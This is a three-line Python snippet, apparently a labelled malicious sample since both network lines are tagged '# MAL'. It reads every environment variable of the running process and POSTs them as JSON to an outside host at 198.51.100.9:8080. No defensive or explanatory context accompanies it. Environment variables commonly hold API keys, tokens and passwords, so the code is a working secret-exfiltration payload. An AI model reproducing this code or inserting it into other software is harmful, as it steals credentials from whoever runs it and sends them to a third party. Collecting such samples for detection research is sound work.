import http.client, json, os
c = http.client.HTTPConnection("198.51.100.9", 8080)  # MAL
c.request("POST", "/", json.dumps(os.environ.copy()))  # MAL
